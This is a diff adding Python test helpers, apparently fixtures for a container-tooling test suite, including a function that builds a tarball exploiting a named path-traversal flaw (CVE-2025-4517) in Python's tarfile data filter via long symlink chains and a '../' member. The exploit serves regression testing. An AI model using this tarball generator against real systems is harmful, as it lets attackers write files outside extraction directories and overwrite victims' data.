@@ -183,3 +183,41 @@ def podman_usable() -> str | None:
     if not Path("/bin/busybox").exists():
         return "busybox-static is not installed (needed to build a test image without a registry)"
     return None
+
+
+def _tar_add(tar: tarfile.TarFile, name: str, kind: str = "file", target: str = "", data: bytes = b"") -> None:
+    info = tarfile.TarInfo(name)
+    info.mode = 0o755 if kind == "dir" else 0o644
+    if kind == "dir":
+        info.type = tarfile.DIRTYPE
+    elif kind in ("symlink", "hardlink"):
+        info.type, info.linkname = (tarfile.SYMTYPE if kind == "symlink" else tarfile.LNKTYPE), target
+    else:
+        info.size = len(data)
+    tar.addfile(info, io.BytesIO(data) if kind == "file" else None)
+
+
+def escaping_tarball(path: Path, dest: Path, levels_up: int, name: str, data: bytes) -> Path:
+    """A tarball that, unpacked into ``dest`` by Python 3.11.7's ``extractall(filter="data")``,
+    writes ``name`` ``levels_up`` directories above ``dest`` (CVE-2025-4517): a chain of
+    symlinked directories whose resolved path is just under PATH_MAX, a last link that pushes it
+    over (``os.path.realpath`` then stops resolving, so the filter sees a harmless path), links
+    climbing one level each through it, and a file written through the last of them. Its first
+    member is a symbolic link; it also holds a plain ``../`` member at the end."""
+    steps = "abcdefghijklmnop"
+    width = (os.pathconf("/", "PC_PATH_MAX") - len(str(dest)) - 1) // (len(steps) + 1)
+    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tar:
+        deep = ""
+        for s in steps:
+            _tar_add(tar, os.path.join(deep, "d" * width), "dir")
+            _tar_add(tar, os.path.join(deep, s), "symlink", "d" * width)
+            deep = os.path.join(deep, "d" * width)
+        over = os.path.join(*steps, "l" * 254)
+        _tar_add(tar, over, "symlink", os.path.join(*[".."] * len(steps)))
+        prev = over
+        for k in range(1, levels_up + 1):
+            _tar_add(tar, f"up{k}", "symlink", os.path.join(prev, ".."))
+            prev = f"up{k}"
+        _tar_add(tar, f"{prev}/{name}", data=data)
+        _tar_add(tar, f"../{name}", data=data)
+    return path
